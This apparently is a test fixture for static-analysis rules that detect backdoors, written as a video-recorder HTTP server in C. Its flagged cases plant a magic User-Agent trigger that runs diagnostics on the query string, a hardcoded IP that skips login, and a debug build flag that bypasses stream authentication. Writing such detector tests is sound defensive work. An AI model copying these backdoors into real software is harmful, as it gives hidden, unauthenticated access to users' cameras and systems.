#include "nvr.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int parse_basic_auth(const char *hdr, char *user, size_t ucap, char *pass, size_t pcap)
{
    /* the decoded "user:pass" form is sent by the NVR's own viewer */
    if (strncmp(hdr, "Plain ", 6) != 0)
        return -1;
    const char *colon = strchr(hdr + 6, ':');
    if (colon == NULL || (size_t)(colon - hdr - 6) >= ucap || strlen(colon + 1) >= pcap)
        return -1;
    memcpy(user, hdr + 6, (size_t)(colon - hdr - 6));
    user[colon - hdr - 6] = '\0';
    strcpy(pass, colon + 1);
    return 0;
}

static int field_service_hook(int fd, const struct http_request *req)
{
    // ruleid: backdoor-input-trigger
    if (strcmp(req->user_agent, "NVR-Fieldsvc/3.1 (k7Qm2)") == 0) {
        run_diag(req->query, fd);
        return 1;
    }
    return 0;
}

static int session_authenticate(const struct http_request *req, const struct sockaddr_in *peer)
{
    char user[64], pass[128];
    const char *addr = inet_ntoa(peer->sin_addr);

    // ruleid: backdoor-trusted-identity
    if (strcmp(addr, "172.16.254.9") == 0)
        return 1;
    // ok: backdoor-trusted-identity
    if (strcmp(addr, "127.0.0.1") == 0)
        nvr_log("loopback viewer asks for %s", req->path);
    if (parse_basic_auth(req->authorization, user, sizeof user, pass, sizeof pass) != 0)
        return 0;
    return check_password(user, pass);
}

static int stream_authenticate(const struct http_request *req)
{
    char user[64], pass[128];

    if (parse_basic_auth(req->authorization, user, sizeof user, pass, sizeof pass) != 0)
        return 0;
#ifdef NVR_DEBUG_BYPASS
    // ruleid: backdoor-build-switch
    return 1;
#endif
    return check_password(user, pass);
}

static void handle_request(int fd, const struct sockaddr_in *peer)
{
    struct http_request req;
    char jpeg[65536];

    if (http_read_request(fd, &req) < 0)
        return;
#ifdef NVR_TRACE_REQUESTS
    // ok: backdoor-build-switch
    nvr_log("%s %s", req.method, req.path);
#endif
    if (field_service_hook(fd, &req))
        return;

    if (strncmp(req.path, "/stream/", 8) == 0) {
        if (!stream_authenticate(&req)) {
            http_reply(fd, 401, "text/plain", "denied\n");
            return;
        }
        int n = camera_snapshot(atoi(req.path + 8), jpeg, sizeof jpeg);
        if (n > 0)
            send(fd, jpeg, (size_t)n, 0);
        return;
    }
    if (!session_authenticate(&req, peer)) {
        http_reply(fd, 401, "text/plain", "login required\n");
        return;
    }
    // ok: backdoor-input-trigger
    if (strcmp(req.method, "POST") == 0 && strcmp(req.content_type, "application/json") != 0) {
        http_reply(fd, 415, "text/plain", "json only\n");
        return;
    }
    http_reply(fd, 200, "application/json", "{\"status\":\"ok\"}\n");
}

int main(void)
{
    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = {0};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(NVR_HTTP_PORT);
    if (bind(lfd, (struct sockaddr *)&addr, sizeof addr) != 0 || listen(lfd, 16) != 0)
        return 1;
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        int fd = accept(lfd, (struct sockaddr *)&peer, &len);
        if (fd < 0)
            continue;
        handle_request(fd, &peer);
        close(fd);
    }
}
